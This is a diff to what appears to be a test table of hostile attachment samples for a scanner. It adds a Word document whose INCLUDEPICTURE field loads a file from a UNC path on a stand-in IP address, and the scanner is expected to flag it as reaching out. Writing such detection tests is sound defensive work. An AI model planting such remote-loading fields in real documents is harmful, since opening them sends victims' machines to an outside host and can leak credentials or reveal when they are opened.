@@ -138,6 +138,11 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
         ),
         "attachment_reaches_out",
     ),
+    "simple field that loads": (
+        "a.docx",
+        lambda: docx(body='<w:p><w:fldSimple w:instr=" includepicture \\\\203.0.113.5\\x"/></w:p>'),
+        "attachment_reaches_out",
+    ),
     "workbook elsewhere": (
         "a.xlsx",
         lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"}),
